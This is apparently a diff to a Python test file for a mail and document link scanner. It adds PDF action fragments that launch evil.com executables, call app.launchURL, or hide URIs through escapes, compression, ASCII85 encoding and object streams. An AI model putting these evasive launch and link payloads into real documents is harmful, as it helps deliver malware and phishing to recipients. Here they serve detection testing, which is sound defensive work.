@@ -1,5 +1,8 @@
 """Links inside files: documents, shortcuts, what archives hold (threat 61)."""
 
+import base64
+import zlib
+
 import pytest
 from tests.message.documents import compound, native, onenote, rtf
 from tests.message.mails import attachment, mail, take_apart, tarred, zipped
@@ -116,6 +119,12 @@ def test_threat_61_hostile_files_end_in_time(text: bytes, media: str, kind: str)
     assert steps(lambda: Inside().links(content, media, kind, ())) < 20 * len(content)
 
 
+def packed(data: bytes) -> bytes:
+    """Compress with a window of 2 KB: not all PDFs have one of 32."""
+    compressor = zlib.compressobj(wbits=11)
+    return compressor.compress(data) + compressor.flush()
+
+
 @pytest.mark.parametrize(
     "said",
     [
@@ -124,6 +133,15 @@ def test_threat_61_hostile_files_end_in_time(text: bytes, media: str, kind: str)
         b"/S/Launch/F(http://evil.com/x.exe)",
         b"/S/SubmitForm/F<</FS/URL/F(http://evil.com/x)>>",
         b"/S/JavaScript/JS(app.launchURL\\('http://evil.com/x'\\))",
+        b"/S/JavaScript/JS(app.launchURL\\('http\\072//evil.com/x'\\))",
+        b"/S/JavaScript/JS 3 0 R>> 3 0 obj <<>> stream\n" + zlib.compress(b"app.launchURL('http://evil.com/x')"),
+        b"/S/URI/URI(http://evil.com/a(b)c)",
+        b"/S/URI/URI(http://ev\\\r\nil.com/a)",
+        b"/S/URI/URI %a remark\n(http://evil.com/a)",
+        b"/S/URI/URI 3 0 R>> endobj 3 0 obj (http://evil.com/a) endobj",
+        b"/S/Launch/F(\\\\\\\\evil.com\\\\share\\\\x.exe)",
+        b">> 3 0 obj <<>> stream\r" + packed(b"/URI (http://evil.com/)"),
+        b">> 3 0 obj <</Type/ObjStm/Filter[/A85 /Fl]>>stream\n" + base64.a85encode(packed(b"/URI(http://evil.com/)")),
     ],
 )
 def test_threat_61_whatever_a_pdf_opens_is_a_link(said: bytes) -> None:
